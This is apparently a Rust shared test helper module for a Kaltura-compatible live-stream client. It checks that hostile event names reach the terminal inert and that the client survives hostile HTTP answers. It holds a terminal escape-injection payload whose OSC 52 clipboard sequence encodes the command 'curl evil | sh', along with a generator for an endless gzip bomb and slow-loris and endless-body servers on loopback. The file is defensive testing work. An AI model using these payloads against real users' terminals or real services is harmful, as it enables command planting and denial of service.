//! What the hostile-input tests share: the terminal payload, a check that bytes are inert on a
//! terminal, a hostile HTTP server on loopback (gzip bomb, endless body, huge body, slow-loris,
//! 429 with `Retry-After`, fixed JSON answers), and a way to run the binary and read its peak
//! memory (`wait4`'s `ru_maxrss`, cross-checked with `VmHWM` from `/proc/PID/status`).

#![allow(dead_code)]

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// An event name that, written raw to a terminal, puts `curl evil | sh` on the clipboard (OSC
/// 52), clears the screen (CSI 2J), sets the window title (OSC 0), sends 8-bit CSI and OSC (C1
/// 0x9B, 0x9D), reverses the text (U+202E) and hides characters (zero-width space, isolate),
/// with a CRLF in the middle.
pub const PAYLOAD: &str = "Evil\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{1b}[2J\u{1b}]0;PWNED\u{7}\
                           \u{9b}31m\u{9d}0;C1\u{7}\u{202e}gnp.exe\u{200b}\u{2066}\r\nline2";

/// A description with the same tricks and line breaks.
pub const PAYLOAD_DESCRIPTION: &str =
    "first\r\nsecond\u{1b}]52;c;ZXZpbA==\u{7}\u{85}third\u{200f}\u{2028}fourth";

/// Terminal-active bytes that must never come from the payload, as (what, UTF-8 bytes).
pub fn forbidden_sequences() -> Vec<(&'static str, Vec<u8>)> {
    let mut v: Vec<(&'static str, Vec<u8>)> = vec![
        ("BEL", vec![0x07]),
        ("OSC (ESC ])", vec![0x1b, b']']),
        ("DCS (ESC P)", vec![0x1b, b'P']),
        ("raw byte 0x9B", vec![0x9b]),
        ("raw byte 0x9D", vec![0x9d]),
    ];
    for c in ('\u{80}'..='\u{9f}').chain([
        '\u{200b}', '\u{200c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}',
        '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{feff}',
    ]) {
        let mut buf = [0u8; 4];
        v.push((
            "C1/bidi/zero-width",
            c.encode_utf8(&mut buf).as_bytes().to_vec(),
        ));
    }
    v
}

/// Asserts `bytes` (what reached a terminal or a pipe) hold none of the forbidden sequences,
/// and, unless `terminal_output` (a pty, where ratatui draws with CSI), no ESC at all.
pub fn assert_inert(what: &str, bytes: &[u8], terminal_output: bool) {
    let shown = || String::from_utf8_lossy(&bytes[..bytes.len().min(2000)]).into_owned();
    if !terminal_output {
        assert!(!bytes.contains(&0x1b), "{what}: ESC in {:?}", shown());
    }
    for (name, seq) in forbidden_sequences() {
        assert!(
            !bytes.windows(seq.len()).any(|w| w == seq.as_slice()),
            "{what}: {name} {seq:02x?} in {:?}",
            shown()
        );
    }
}

/// What the hostile server answers.
#[derive(Clone)]
pub enum Answer {
    /// gzip that inflates without end (a 2 MB gzip of zeros is 2 GB; this never stops).
    GzipBomb,
    /// A chunked JSON body that never ends.
    EndlessChunked,
    /// A body of this many bytes, announced by `Content-Length`.
    Huge(u64),
    /// Headers at once, then the body one byte every 100 ms, for up to a minute.
    SlowLoris,
    /// This status with this `Retry-After` (and a small JSON body).
    Status(u16, &'static str),
    /// 200 with this JSON.
    Json(serde_json::Value),
}

/// A loopback HTTP/1.1 server that answers each request per `plan(n)` (n counts from 1).
pub struct HostileServer {
    /// `http://127.0.0.1:PORT`.
    pub url: String,
    /// Requests received so far.
    pub requests: Arc<AtomicUsize>,
}

impl HostileServer {
    /// Starts the server on a free port; its threads live until the test process ends.
    pub fn start(plan: impl Fn(usize) -> Answer + Send + Sync + 'static) -> HostileServer {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
        let url = format!("http://{}", listener.local_addr().expect("addr"));
        let requests = Arc::new(AtomicUsize::new(0));
        let plan = Arc::new(plan);
        let counter = requests.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                let (plan, counter) = (plan.clone(), counter.clone());
                std::thread::spawn(move || {
                    let _ = serve(stream, &*plan, &counter);
                });
            }
        });
        HostileServer { url, requests }
    }

    /// Requests received so far.
    pub fn count(&self) -> usize {
        self.requests.load(Ordering::SeqCst)
    }
}

fn serve(
    stream: TcpStream,
    plan: &(dyn Fn(usize) -> Answer + Send + Sync),
    counter: &AtomicUsize,
) -> std::io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut length = 0usize;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line)? == 0 {
            return Ok(());
        }
        let line = line.trim_end();
        if line.is_empty() {
            break;
        }
        if let Some((name, value)) = line.split_once(':')
            && name.eq_ignore_ascii_case("content-length")
        {
            length = value.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0u8; length];
    reader.read_exact(&mut body)?;
    let n = counter.fetch_add(1, Ordering::SeqCst) + 1;
    let mut out = stream;
    match plan(n) {
        Answer::Json(value) => {
            let body = value.to_string();
            write!(
                out,
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n{body}",
                body.len()
            )?;
        }
        Answer::Status(status, retry_after) => {
            let body = "{\"busy\":true}";
            write!(
                out,
                "HTTP/1.1 {status} Busy\r\nRetry-After: {retry_after}\r\nContent-Type: \
                 application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            )?;
        }
        Answer::Huge(size) => {
            write!(
                out,
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {size}\r\n\
                 Connection: close\r\n\r\n\""
            )?;
            let block = vec![b'a'; 1 << 16];
            let mut left = size.saturating_sub(2);
            while left > 0 {
                let n = left.min(block.len() as u64) as usize;
                out.write_all(&block[..n])?;
                left -= n as u64;
            }
            out.write_all(b"\"")?;
        }
        Answer::EndlessChunked => {
            out.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\
                  Transfer-Encoding: chunked\r\n\r\n",
            )?;
            let piece = format!(
                "[{}",
                "{\"objectType\":\"KalturaLiveStreamEntry\"},".repeat(800)
            );
            let chunk = format!("{:x}\r\n{piece}\r\n", piece.len());
            loop {
                out.write_all(chunk.as_bytes())?;
            }
        }
        Answer::GzipBomb => {
            out.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\
                  Content-Encoding: gzip\r\nConnection: close\r\n\r\n",
            )?;
            let mut bits = Bits::default();
            bits.out
                .extend_from_slice(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
            let mut first = true;
            loop {
                // A fixed-Huffman deflate block: one literal 0 (first block only), then 4096
                // copies of "length 258, distance 1" (13 bits each → 258 zero bytes), then
                // end-of-block. About 6.7 KB that inflate to 1 MB, block after block.
                bits.put(0, 1);
                bits.put(1, 2);
                if first {
                    bits.code(0x30, 8);
                    first = false;
                }
                for _ in 0..4096 {
                    bits.code(0b1100_0101, 8);
                    bits.code(0, 5);
                }
                bits.code(0, 7);
                out.write_all(&std::mem::take(&mut bits.out))?;
            }
        }
        Answer::SlowLoris => {
            out.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\
                  Connection: close\r\n\r\n",
            )?;
            let until = Instant::now() + Duration::from_secs(60);
            while Instant::now() < until {
                out.write_all(b" ")?;
                out.flush()?;
                std::thread::sleep(Duration::from_millis(100));
            }
        }
    }
    out.flush()
}

/// A deflate bit writer: values LSB first, Huffman codes MSB first (RFC 1951).
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    acc: u64,
    n: u32,
}

impl Bits {
    fn put(&mut self, value: u64, count: u32) {
        self.acc |= value << self.n;
        self.n += count;
        while self.n >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.n -= 8;
        }
    }

    fn code(&mut self, code: u64, len: u32) {
        let reversed = (0..len).fold(0, |r, i| r | (((code >> i) & 1) << (len - 1 - i)));
        self.put(reversed, len);
    }
}

/// A finished run of the binary and its peak memory.
pub struct Measured {
    /// Exit code (-1 when killed by a signal).
    pub code: i32,
    /// Its stdout.
    pub stdout: Vec<u8>,
    /// Its stderr.
    pub stderr: Vec<u8>,
    /// Peak resident set, KiB, from `wait4`'s rusage (exact, taken at exit).
    pub max_rss_kib: i64,
    /// The last `VmHWM` read from `/proc/PID/status` while it ran, KiB (0 if it ended first).
    pub vm_hwm_kib: i64,
}

impl Measured {
    /// stderr as text.
    pub fn stderr_text(&self) -> String {
        String::from_utf8_lossy(&self.stderr).into_owned()
    }
}

/// Runs `cmd` to the end (killing it after `limit` or above 1 GiB, a safety net only) and
/// measures its peak memory. The child is reaped with `wait4` so that its own rusage is read, not a sum over the
/// other tests' children.
// The child is reaped with `wait4` below, which clippy cannot see.
#[allow(clippy::zombie_processes)]
pub fn run_measured(mut cmd: std::process::Command, limit: Duration) -> Measured {
    use std::process::Stdio;
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn kwebcast");
    let pid = child.id() as libc::pid_t;
    let mut out = child.stdout.take().expect("stdout");
    let mut err = child.stderr.take().expect("stderr");
    let out_thread = std::thread::spawn(move || {
        let mut b = Vec::new();
        let _ = out.read_to_end(&mut b);
        b
    });
    let err_thread = std::thread::spawn(move || {
        let mut b = Vec::new();
        let _ = err.read_to_end(&mut b);
        b
    });
    let started = Instant::now();
    let mut vm_hwm_kib = 0;
    let (status, rusage) = loop {
        let mut status = 0;
        // SAFETY: rusage is plain old data that wait4 fills in.
        let mut rusage: libc::rusage = unsafe { std::mem::zeroed() };
        // SAFETY: pid is our own child; the pointers are to locals.
        let done = unsafe { libc::wait4(pid, &mut status, libc::WNOHANG, &mut rusage) };
        if done == pid {
            break (status, rusage);
        }
        assert!(
            done == 0,
            "wait4 failed: {}",
            std::io::Error::last_os_error()
        );
        if let Ok(text) = std::fs::read_to_string(format!("/proc/{pid}/status"))
            && let Some(kb) = text
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        {
            vm_hwm_kib = kb;
        }
        // A safety net only (the assertions are on the figures): a runaway child is stopped
        // before it takes the machine down with it.
        if started.elapsed() > limit || vm_hwm_kib > 1 << 20 {
            // SAFETY: signalling our own child.
            unsafe { libc::kill(pid, libc::SIGKILL) };
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    let code = if libc::WIFEXITED(status) {
        libc::WEXITSTATUS(status)
    } else {
        -1
    };
    Measured {
        code,
        stdout: out_thread.join().unwrap_or_default(),
        stderr: err_thread.join().unwrap_or_default(),
        max_rss_kib: rusage.ru_maxrss,
        vm_hwm_kib,
    }
}

/// Renames an event (and sets its description) on a Kaltura-compatible service with an admin KS
/// signed for `partner` with `secret`: what anyone holding an editor's KS can do.
pub fn rename(url: &str, partner: i64, secret: &str, id: &str, name: &str, description: &str) {
    use kwebcast::kaltura::client::{ClientConfig, KalturaClient, KsProvider};
    use kwebcast::kaltura::ks::{KsVersion, SessionType};
    use kwebcast::kaltura::secret::AdminSecret;
    use kwebcast::kaltura::services::live_stream;
    use kwebcast::kaltura::types::LiveStreamUpdate;
    let provider = KsProvider::Local {
        secret: AdminSecret::new(secret),
        partner_id: partner,
        user_id: "editor@example.com".into(),
        session_type: SessionType::Admin,
        privileges: "disableentitlement".into(),
        ttl_secs: 3600,
        version: KsVersion::V2,
    };
    let client = KalturaClient::new(ClientConfig::new(url, partner, provider)).expect("client");
    let changes = LiveStreamUpdate {
        name: Some(name.to_string()),
        description: Some(description.to_string()),
        ..LiveStreamUpdate::default()
    };
    let answer = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime")
        .block_on(client.call(&live_stream::update(id, &changes)))
        .expect("liveStream.update");
    assert_eq!(answer["id"], id, "{answer}");
}
